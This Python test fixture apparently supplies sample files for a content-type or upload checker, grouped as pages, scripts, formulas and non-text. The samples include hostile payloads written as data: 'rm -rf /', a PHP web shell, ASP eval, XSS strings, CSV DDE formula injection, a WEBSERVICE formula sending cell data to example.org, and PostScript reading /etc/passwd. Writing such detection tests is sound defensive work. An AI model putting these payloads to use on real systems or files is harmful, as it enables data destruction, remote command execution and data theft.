"""Texts that are pages, scripts or formulas, or no text at all."""

from followthrough.lib.tests.hostile.case import FORMULAS, PAGE, PROGRAM, UNKNOWN, group

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
GIF_SCRIPT = b"GIF89a=1;/*\n*/alert(1)//"
ZEROES = bytes(600)

FILES = [
    *group(
        "page",
        PAGE,
        {
            "a.txt": b"<!DOCTYPE html><title>x</title>",
            "b.csv": b"\r\n\t <html><body>",
            "c.txt": b"\xef\xbb\xbf<script>alert(1)</script>",
            "d.txt": "<html>".encode("utf-16"),
            "e.csv": b"a;b;c\n1;2;<script src=//example.org></script>\n",
            "drawing.png": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            "g.txt": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
            "h.txt": b"<!-- x --><p>hello</p>",
            "i.txt": lambda: b"a" * (1024 * 1024 - 4) + b"<ScRiPt>alert(1)</script>",
            "j.pdf": b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n",
            "k.csv": b"a,<iframe src=x>,c\n",
            "flat.odt": b'<?xml version="1.0"?><office:document/>',
        },
    ),
    *group(
        "script",
        PROGRAM,
        {
            "a.txt": b"#!/bin/sh\nrm -rf /\n",
            "b.txt": b"<p><?php system($_GET['c']); ?>",
            "c.csv": b"@echo off\r\ndel *.*\r\n",
            "d.txt": b"<% eval request(1) %>",
            "e.js": b"alert(document.cookie)",
            "f.pdf.VBS": b'CreateObject("WScript.Shell")',
            "g.url": b"[InternetShortcut]\nURL=file://example.org/x\n",
            "virus.txt": EICAR,
            "h.txt": b"a" * 5000 + b"<?=`id`?>",
        },
    ),
    *group(
        "formula",
        FORMULAS,
        {
            "a.csv": b"Name;Sum\n=cmd|' /C calc'!A0;1\n",
            "b.csv": b"Name,Sum\n\"-2+3+cmd|' /C calc'!A0\",1\n",
            "c.csv": b'x;=WEBSERVICE("http://example.org/?"&A1)\n',
            "d.csv": b'x;=DDE("cmd";"/C calc";"x")\n',
            "e.csv": b"x;@SUM(1+1)*cmd|' /C calc'!A0\n",
            "f.csv": b"x;=msexcel|x!A1\n",
            "h.csv": b"x;+cmd|' /C calc'!_xlbgnm.A1\n",
            "g.csv": b'x;=IMPORTXML("http://example.org";"//a")\n',
        },
    ),
    *group(
        "not text",
        UNKNOWN,
        {
            "zero.txt": b"a\0b",
            "terminal.txt": b"\x1b]0;title\x07 text",
            "wide.txt": "no mark".encode("utf-16-le"),
            "noise.csv": bytes(range(256)) * 4,
            "rich.txt": rb"{\rtf1\ansi{\object\objdata 0105}}",
            "print.txt": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file",
            "gif.txt": GIF_SCRIPT,
            "half.txt": b"\xff\xfea\0b",
            "foreign.txt": b"\xf0\xf1\xf2\xf3\xf4",
            "database.csv": b"SQLite format 3\0" + ZEROES,
        },
    ),
]
